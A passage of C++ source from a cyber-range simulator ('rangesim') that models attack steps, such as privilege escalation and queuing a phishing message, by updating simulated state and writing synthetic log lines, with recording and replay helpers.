  if (f == nullptr) return failure("no foothold on " + p.target.str(), at);
  if (f->privilege >= Privilege::Admin) {
    auto out = failure("already " + std::string(to_string(f->privilege)) + " on " + p.target.str(), at);
    out.success = true;
    return out;
  }
  const Foothold held = *f;
  const auto& node = engine_.topology().node(held.node);
  const auto end = remote_exec(held, "escalate", at);
  if (!end) return failure("lost access to " + p.target.str(), at);
  ActionOutcome out;
  out.t_end = *end;
  if (node.role != NodeRole::Workstation) {
    out.summary = "no escalation path on " + p.target.str();
    return out;
  }
  engine_.syslog(node.id, facility::kAuth, 5, "Security",
                 "Special privileges assigned to new logon. Privileges: SeDebugPrivilege", *end);
  Foothold raised = held;
  raised.privilege = Privilege::Admin;
  out.success = true;
  out.summary = "administrator on " + p.target.str();
  out.gained.footholds.push_back(raised);
  return out;
}

ActionOutcome AttackSession::send_phish(const PhishParams& p, SimTime at) {
  engine_.syslog(state_.position, 2, 6, "postfix/pickup",
                 "message from=<" + p.sender + "> to=<" + p.recipient + "> queued; delivery happens outside the range",
                 at);
  ActionOutcome out;
  out.success = true;
  out.t_end = at;
  out.summary = "phishing message to " + p.recipient + " queued";
  return out;
}

Trace AttackSession::trace() const { return engine_.capture(labels_); }

SessionRecording AttackSession::recording(std::optional<Profile> profile, bool goal_reached) const {
  SessionRecording r;
  r.session_id = id_;
  r.scenario = engine_.scenario().doc;
  r.profile = profile;
  r.steps = steps_;
  r.final_state = state_;
  r.goal_reached = goal_reached;
  return r;
}

std::vector<ActionOutcome> replay(const SessionRecording& recording) {
  AttackSession session(materialize(recording.scenario), recording.session_id);
  std::vector<ActionOutcome> out;
  for (const auto& step : recording.steps) out.push_back(session.execute(step.action, step.t));
  return out;
}

}  // namespace rangesim
